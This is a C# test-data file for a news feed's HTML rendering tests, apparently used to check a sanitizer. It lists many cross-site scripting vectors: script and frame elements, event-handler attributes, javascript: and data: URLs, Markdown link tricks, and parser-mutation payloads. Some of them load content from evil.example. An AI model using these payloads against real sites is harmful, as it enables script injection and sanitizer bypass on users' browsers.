namespace NewsFeed.Tests.Rendering;

/// <summary>The well-known ways to smuggle a script into a page, one or a few of each class.</summary>
internal static class XssVectors
{
    public static TheoryData<string> Elements =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script\t>", "<script>alert(1)", "<<script>alert(1)//<</script>", "<script\0>alert(1)</script>",
        "<script type=module>import '//evil.example'</script>", "<script>/*<!--*/alert(1)</script>", "<x:script xmlns:x=a>alert(1)</x:script>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe/onload=alert(1)>",
        "<object data=javascript:alert(1)></object>", "<object data='data:text/html,<script>alert(1)</script>'>", "<embed src=//evil.example/x.swf>",
        "<applet code=x></applet>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<portal src=//evil.example></portal>",
        "<fencedframe></fencedframe>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x.html>", "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>",
        "<style onload=alert(1)>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<head><title>x</title></head>",
        "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>", "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)>", "<dialog open onclose=alert(1)>x</dialog>", "<marquee onstart=alert(1)>x</marquee>",
        "<bgsound src=javascript:alert(1)>", "<layer src=javascript:alert(1)></layer>", "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
        "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<slot onslotchange=alert(1)></slot>", "<canvas id=x></canvas>", "<map name=m><area href=javascript:alert(1)></map>", "<noembed><script>alert(1)</script></noembed>",
        "<plaintext><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
        "<?xml version=1.0?><script>alert(1)</script>", "<?php echo '<script>alert(1)</script>' ?>", "<![CDATA[<script>alert(1)</script>]]>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<!--!><img src=x onerror=alert(1)>--!>", "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
        "</p><script>alert(1)</script>", "</div></div></body></html><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>",
    ];

    public static TheoryData<string> Attributes =>
    [
        "<img src=x onerror=alert(1)>", "<img src=/x onerror=alert(1)//", "<img/src=/x/onerror=alert(1)>", "<img src=`/x`onerror=alert(1)>",
        "<img src=/x\nonerror\n=\nalert(1)>", "<img src=/x OnErRoR=alert(1)>", "<img src='/x'onerror='alert(1)'>", "<img src=/x \"=\" onerror=alert(1)>",
        "<img alt='`><script>alert(1)</script>' src=/x>", "<img title=\"&quot;><script>alert(1)</script>\" src=/x>", "<img src=/x alt=\"--><script>alert(1)</script>\">",
        "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) src=/x>", "<img src=/x srcset='javascript:alert(1) 2x'>", "<IMG SRC=javascript:alert('1')>",
        "<img src=\"jav&#x09;ascript:alert(1);\">", "<img src=\"jav&#x0A;ascript:alert(1);\">", "<img src=\" &#14;  javascript:alert(1);\">",
        "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>", "<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
        "<p onclick=alert(1)>x</p>", "<p/onclick=alert(1)>x", "<p onclick\u000b=alert(1)>x", "<p x:onclick=alert(1)>x", "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<div onpointerrawupdate=alert(1) onbeforetoggle=alert(1) popover id=x>y</div>", "<b style='behavior:url(#default#time2)' onbegin=alert(1)>x</b>",
        "<div style='background:url(javascript:alert(1))'>x</div>", "<div style='width:expression(alert(1))'>x</div>", "<div style='-moz-binding:url(//evil.example)'>x</div>",
        "<div style=\"position:fixed;inset:0;z-index:9999\">x</div>", "<a style=x onfocus=alert(1) tabindex=1 autofocus accesskey=x>y</a>", "<p contenteditable onbeforeinput=alert(1)>x</p>",
        "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>", "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "<q cite=javascript:alert(1)>x</q>", "<a id=document name=cookie>x</a>", "<img name=getElementById src=/x>", "<form id=x></form><button form=x formaction=//evil.example>y</button>",
        "<div is=x-foo slot=y part=z exportparts=a itemprop=b>c</div>", "<p data-bind='html: alert(1)' ng-app ng-init=alert(1) x-data x-init=alert(1) v-html=x hx-get=/x hx-on:load=alert(1)>{{constructor.constructor('alert(1)')()}}</p>",
        "<p xmlns=http://www.w3.org/2000/svg onload=alert(1)>x</p>", "<div class='admin hidden modal'>x</div>", "<p &{alert(1)};=x>y</p>", "<div\u00a0onclick=alert(1)>x</div>", "<p role=button aria-label=x tabindex=0 hidden inert>y</p>",
    ];

    public static TheoryData<string> Addresses =>
    [
        "<a href=javascript:alert(1)>x</a>", "<a href=JAVASCRIPT:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='\u0001javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\r\nscript:alert(1)'>x</a>", "<a href='javascript\t:alert(1)'>x</a>", "<a href=javascript&colon;alert(1)>x</a>",
        "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x</a>", "<a href=java&Tab;script&colon;alert&lpar;1&rpar;>x</a>", "<a href=javascript:%61lert(1)>x</a>",
        "<a href=javascript://https://example.org/%0Aalert(1)>x</a>", "<a href='https://example.org/\njavascript:alert(1)'>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a href=livescript:alert(1)>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>", "<a href=feed:javascript:alert(1)>x</a>", "<a href=jar:https://evil.example!/>x</a>", "<a href=mhtml:https://evil.example>x</a>",
        "<a xlink:href=javascript:alert(1)>x</a>", "<a href=//evil.example>x</a>", "<a href='/\t/evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href=https:evil.example>x</a>", "<a href='https:\\\\evil.example'>x</a>",
        "<a href=\u2028javascript:alert(1)>x</a>", "<a href=\u00a0javascript:alert(1)>x</a>", "<a href=\ufeffjavascript:alert(1)>x</a>", "<a href=\u0130avascript:alert(1)>x</a>", "<a href=jav\u00adascript:alert(1)>x</a>",
        "<a href=/x ping=//evil.example download=x.exe target=_top>x</a>", "<a href=mailto:a@b.example?subject=%3Cscript%3E>x</a>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](<javascript:alert(1)>)", "[x](java\tscript:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))", "[x](\\javascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x]", "![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "<javascript:alert(1)>", "<data:text/html,x>", "[x](data:text/html,<script>alert(1)</script>)",
        "![x\"onerror=\"alert(1)](/x)", "[x](/y \"z\\\" onclick=\\\"alert(1)\")", "![`<img src=x onerror=alert(1)>`](/x)", "[<img src=x onerror=alert(1)>](/x)", "<https://example.org/\"onclick=alert(1)>",
        "```x\" onclick=\"alert(1)\ny\n```", "~~~<script>\nx\n~~~", "a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=alert(1)>", "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "\\<script>alert(1)</script>",
    ];

    public static TheoryData<string> Mutations =>
    [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<plaintext><p title=\"</plaintext><img src=x onerror=alert(1)>\">", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>", "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
        "<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>", "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></svg>", "<svg><image href=javascript:alert(1)></svg>", "<svg/onload=alert(1)>", "<svg><p><style><!--</style><img src=x onerror=alert(1)>-->",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>", "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<math><mi//xlink:href=data:x,<script>alert(1)</script>>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math href=javascript:alert(1)>x</math>", "<math><style></math><img src=x onerror=alert(1)>", "<select><style></select><img src=x onerror=alert(1)>",
        "<select><template><style><!--</template><a rel=\"--></style></select><img src=x onerror=alert(1)>\">", "<table><td><svg><desc><td><style><img src=x onerror=alert(1)>", "<table><svg><style></table><img src=x onerror=alert(1)>", "<b><table><script>alert(1)</script></b>",
        "<p><svg><style><!--</style><img src=x onerror=alert(1)>--></svg></p>", "<template><svg><style></template><img src=x onerror=alert(1)>", "<a><table><a><img src=x onerror=alert(1)></table>", "<nobr><nobr><table><script>alert(1)</script>", "<frameset><noframes><img src=x onerror=alert(1)>",
        "<img src=x:x alt=\"``onerror=alert(1)\">", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!-- --!><img src=x onerror=alert(1)> -->", "<!-- foo=\"bar--><img src=x onerror=alert(1)>\" -->", "<![CDATA[ x=\"]]><img src=x onerror=alert(1)>\"", "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
        "<x-\"><img src=x onerror=alert(1)>", "<p<!---->onclick=alert(1)>x", "<a title=\"<!--\"><p title=\"--><img src=x onerror=alert(1)>\">x", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "<ruby><rt><rtc><script>alert(1)</script>",
        "<details><summary><svg><style></details><img src=x onerror=alert(1)>", "<h1><h2><h1><svg></h1><script>alert(1)</script>", "<image src=x onerror=alert(1)>", "<br/onclick=alert(1)></br onclick=alert(1)>", "</p onclick=alert(1)>", "<selectedcontent><script>alert(1)</script></selectedcontent>",
    ];
}
